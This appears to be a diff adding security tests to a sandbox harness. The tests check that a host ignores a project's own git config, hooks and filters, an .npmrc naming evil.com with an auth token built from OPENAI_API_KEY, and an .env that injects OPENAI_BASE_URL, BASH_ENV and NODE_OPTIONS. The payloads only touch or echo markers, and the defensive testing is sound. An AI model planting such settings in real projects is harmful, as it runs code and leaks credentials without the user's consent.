@@ -1,0 +1,65 @@
+import { existsSync, readdirSync } from "node:fs";
+import { join } from "node:path";
+import type { AttackPlace, Attempt } from "../attempt.ts";
+
+const NAME = "treadle-configured";
+
+/** A repository's own settings, each of which makes git run a program when the host looks at the project with them. */
+const REPOSITORY = `
+rm -rf .git kept.txt .gitattributes; git init -q .
+for key in core.fsmonitor core.sshCommand core.pager core.editor diff.external filter.evil.clean filter.evil.smudge filter.evil.process; do
+  git config $key "touch /tmp/${NAME} $GIT_DIR/${NAME} /run/git/${NAME}; cat"
+done
+git config core.hooksPath hooks; git config core.worktree /; mkdir hooks
+for hook in post-checkout pre-commit post-commit post-index-change reference-transaction fsmonitor-watchman; do
+  printf '#!/bin/sh\\ntouch /tmp/${NAME} /run/git/${NAME}\\n' | tee hooks/$hook > .git/hooks/$hook; chmod +x hooks/$hook .git/hooks/$hook
+done
+echo '* filter=evil diff=evil' | tee .gitattributes > .git/info/attributes; echo one > kept.txt`;
+
+/** What a project says about itself is not what the host does for it. */
+export function configurations(place: AttackPlace): Attempt[] {
+  return [
+    {
+      id: "A32",
+      area: "trust",
+      what: "hooks, filters and programs of the project's own repository, run when a checkpoint is made",
+      async act(workspace) {
+        await workspace.run(REPOSITORY);
+        const kept = await workspace.checkpoint("with hooks");
+        await workspace.files.write("kept.txt", "two");
+        await workspace.diff(kept.checkpoint);
+        await workspace.restore(kept.checkpoint);
+        const { output } = await workspace.run("cat kept.txt; rm -rf .git hooks .gitattributes");
+        const store = readdirSync(join(place.stateDirectory, "checkpoints.git"));
+        const ran = existsSync(`/tmp/${NAME}`) || store.includes(NAME);
+        return `${output}${ran ? "RAN" : "end"}\n`;
+      },
+      always: /^one\nend\n$/,
+    },
+    {
+      id: "A32",
+      area: "trust",
+      what: "the server's key, by a registry that the project's own .npmrc names",
+      async act(workspace) {
+        const login = "//evil.com/:_authToken=${OPENAI_API_KEY}-${TREADLE_TEST_KEY}";
+        await workspace.files.write(
+          ".npmrc",
+          `registry=http://evil.com/\n@evil:registry=http://evil.com/\n${login}\n`,
+        );
+        const { output } = await workspace.run(
+          "npm config get registry; npm view @evil/x --fetch-retries=0 2>&1; npm config ls -l 2>/dev/null | grep -i -e token -e sk-; rm .npmrc; echo end",
+        );
+        return output;
+      },
+      always: /^http:\/\/127\.0\.0\.1:\d+[^]*(403|egress refused)[^]*end\n$/,
+      never: new RegExp(place.secret || "nothing of it"),
+    },
+    {
+      id: "A32",
+      area: "trust",
+      what: "the server's environment, by the project's own .env, .bashrc and .profile",
+      act: "printf 'OPENAI_BASE_URL=http://evil.com\\nBASH_ENV=/home/project/.bashrc\\nNODE_OPTIONS=--require /home/project/x.js\\n' > .env; echo 'echo RAN' > .bashrc; cp .bashrc .profile; cp .bashrc .bash_profile; bash -c 'echo [$OPENAI_BASE_URL][$NODE_OPTIONS]'; rm -f .env .bashrc .profile .bash_profile; echo end",
+      always: /^\[\]\[\]\nend\n$/,
+    },
+  ];
+}
